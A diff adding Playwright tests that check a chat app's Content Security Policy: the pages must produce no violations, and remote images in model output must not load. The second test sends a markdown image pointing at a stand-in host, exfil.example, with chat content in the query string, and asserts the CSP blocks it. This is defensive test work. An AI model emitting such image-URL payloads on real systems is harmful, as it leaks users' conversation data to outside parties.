@@ -1,0 +1,88 @@
+import { expect, test, type Page } from "@playwright/test";
+
+type Violation = { directive: string; blockedURI: string; sample: string };
+
+/** Records CSP violations as the browser reports them, plus CSP console errors. */
+async function watchCsp(page: Page): Promise<{ violations: () => Promise<Violation[]>; console: string[] }> {
+  const consoleErrors: string[] = [];
+  page.on("console", (m) => {
+    if (/content security policy/i.test(m.text())) consoleErrors.push(m.text());
+  });
+  await page.addInitScript(() => {
+    const w = window as unknown as { __csp: Violation[] };
+    w.__csp = [];
+    document.addEventListener("securitypolicyviolation", (e) =>
+      w.__csp.push({ directive: e.violatedDirective, blockedURI: e.blockedURI, sample: e.sample }),
+    );
+  });
+  const all: Violation[] = [];
+  const collect = async () => {
+    all.push(...(await page.evaluate(() => (window as unknown as { __csp: Violation[] }).__csp.splice(0))));
+    return all;
+  };
+  return { violations: collect, console: consoleErrors };
+}
+
+test("sign-in, sign-up and a streamed chat run under the CSP without a single violation", async ({ page }) => {
+  const csp = await watchCsp(page);
+  const seen: Violation[] = [];
+  const visit = async (url: string) => {
+    const res = await page.goto(url);
+    expect(res?.headers()["content-security-policy"]).toContain("'nonce-");
+    seen.push(...(await csp.violations()));
+  };
+
+  await visit("/sign-in");
+  await expect(page.getByRole("button", { name: "Sign in" })).toBeVisible();
+  await visit("/sign-up");
+  await page.getByLabel("Email").fill(`csp-${Date.now()}@example.com`);
+  await page.getByLabel("Password").fill("correct horse battery");
+  await page.getByRole("button", { name: "Create account" }).click();
+  await expect(page.getByTestId("composer-input")).toBeVisible(); // hydrated: scripts ran
+  seen.push(...(await csp.violations()));
+
+  await page.getByTestId("composer-input").fill("Is this **markdown** rendered? [[keepalive:2]]");
+  await page.getByTestId("composer-input").press("Enter");
+  const answer = page.getByTestId("message-assistant").last().getByTestId("answer");
+  await expect(answer).toContainText("rendered?");
+  await expect(answer.locator("strong").first()).toBeVisible();
+  await expect(page.getByTestId("send-button")).toBeVisible(); // stream finished
+  seen.push(...(await csp.violations()));
+
+  await page.reload();
+  await expect(page.getByTestId("message-assistant").last().getByTestId("answer")).toContainText("rendered?");
+  seen.push(...(await csp.violations()));
+
+  expect(seen).toEqual([]);
+  expect(csp.console).toEqual([]);
+});
+
+test("remote images in model output are not loaded (no exfiltration through image URLs)", async ({ page }) => {
+  const csp = await watchCsp(page);
+  const loaded: string[] = [];
+  const failed: string[] = [];
+  page.on("response", (r) => {
+    if (r.url().includes("exfil.example")) loaded.push(r.url());
+  });
+  page.on("requestfailed", (r) => {
+    if (r.url().includes("exfil.example")) failed.push(r.failure()?.errorText ?? "");
+  });
+  await page.goto("/sign-up");
+  await page.getByLabel("Email").fill(`img-${Date.now()}@example.com`);
+  await page.getByLabel("Password").fill("correct horse battery");
+  await page.getByRole("button", { name: "Create account" }).click();
+  await expect(page.getByTestId("composer-input")).toBeVisible();
+
+  // The emulator echoes the prompt, so the answer contains the markdown image.
+  await page.getByTestId("composer-input").fill("![pixel](https://exfil.example/collect?secret=chat-content)");
+  await page.getByTestId("composer-input").press("Enter");
+  await expect(page.getByTestId("send-button")).toBeVisible();
+  await expect(page.getByTestId("message-assistant").last().getByTestId("answer")).toContainText("You said");
+  await expect.poll(async () => (await csp.violations()).map((v) => `${v.directive} ${v.blockedURI}`)).toContainEqual(
+    expect.stringMatching(/^img-src https:\/\/exfil\.example\//),
+  );
+  expect(loaded).toEqual([]);
+  // Blocked by the policy itself, not merely unreachable from this offline machine.
+  expect(failed.length).toBeGreaterThan(0);
+  for (const reason of failed) expect(reason).toMatch(/csp/i); // Chromium reports "csp" (ERR_BLOCKED_BY_CSP)
+});
